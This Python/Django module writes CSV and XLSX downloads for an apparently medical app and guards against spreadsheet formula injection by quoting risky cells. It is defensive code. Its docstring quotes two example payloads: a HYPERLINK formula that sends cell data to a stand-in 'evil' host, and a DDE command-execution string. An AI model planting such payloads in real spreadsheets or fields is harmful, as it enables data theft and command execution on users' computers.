"""Every spreadsheet the app hands out (CSV or XLSX) is written here, so that
none can carry a formula a user typed.

A patient, nurse or category name such as ``=HYPERLINK("http://evil/?"&A1)``
or ``+cmd|' /C calc'!A0`` is a formula to Excel or LibreOffice when the file
is opened (CSV injection). Following OWASP, every text cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading single
quote, in both formats, so the two downloads hold the same text and a sheet
saved again as CSV stays harmless. XLSX cells are therefore always strings
(openpyxl turns only a text starting with ``=`` into a formula); characters
XLSX cannot hold (control characters) are dropped instead of failing the
download.

Numbers stay numbers: only text is touched, so -3 is still a number, and a
text that is just a number ("-3", "+86") or only dashes ("-", "—" placeholders)
is left as it is: Excel reads it as that number or that text, nothing runs.

Layout: one table is a header row and its rows (sheet named after it); several
tables are, in CSV, each its title row, header, rows and a blank row, and in
XLSX one sheet each. CSV is UTF-8 with a byte-order mark so Excel reads the
Chinese.
"""

import csv
import io
import re
from collections.abc import Iterable, Sequence
from dataclasses import dataclass

import tablib
from django.http import HttpResponse
from django.utils.functional import Promise
from django.utils.http import content_disposition_header
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HARMLESS = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)|-+")
CONTENT_TYPES = {
    "csv": "text/csv; charset=utf-8",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
}


@dataclass(frozen=True)
class Table:
    """One table of an export. ``sheet`` names its XLSX sheet (default: the
    title; XLSX keeps 31 characters and replaces ``\\ * ? : / [ ]``)."""

    title: str
    headers: Sequence
    rows: Iterable[Sequence]
    sheet: str = ""


def neutralise(value):
    """A cell value safe for a spreadsheet: text that a spreadsheet would read
    as a formula gets a leading quote; anything that is not text is returned
    as it is (lazy translations become text)."""
    if isinstance(value, Promise):
        value = str(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not HARMLESS.fullmatch(value):
        return "'" + value
    return value


def _xlsx_cell(value):
    value = neutralise(value)
    if isinstance(value, str):
        return ILLEGAL_CHARACTERS_RE.sub("", value)
    return value


def _dataset(table: Table, cell) -> tablib.Dataset:
    dataset = tablib.Dataset(title=str(table.sheet or table.title))
    dataset.headers = [cell(h) for h in table.headers]
    for row in table.rows:
        dataset.append([cell(v) for v in row])
    return dataset


def _csv(tables: Sequence[Table]) -> str:
    out = io.StringIO()
    writer = csv.writer(out)
    out.write("\ufeff")  # so spreadsheet programs read the Chinese as UTF-8
    several = len(tables) > 1
    for table in tables:
        if several:
            writer.writerow([neutralise(table.title)])
        out.write(_dataset(table, neutralise).export("csv"))
        if several:
            writer.writerow([])
    return out.getvalue()


def _xlsx(tables: Sequence[Table]) -> bytes:
    book = tablib.Databook([_dataset(table, _xlsx_cell) for table in tables])
    return book.export("xlsx")


def spreadsheet_response(*, tables: Sequence[Table], fmt: str, filename: str) -> HttpResponse:
    """The tables as a download: ``fmt`` is "csv" or "xlsx", ``filename``
    the name the browser saves it under (its extension included)."""
    if fmt == "csv":
        body = _csv(tables)
    elif fmt == "xlsx":
        body = _xlsx(tables)
    else:
        raise ValueError(f"unknown export format {fmt!r}")
    response = HttpResponse(body, content_type=CONTENT_TYPES[fmt])
    response["Content-Disposition"] = content_disposition_header(as_attachment=True, filename=filename)
    return response
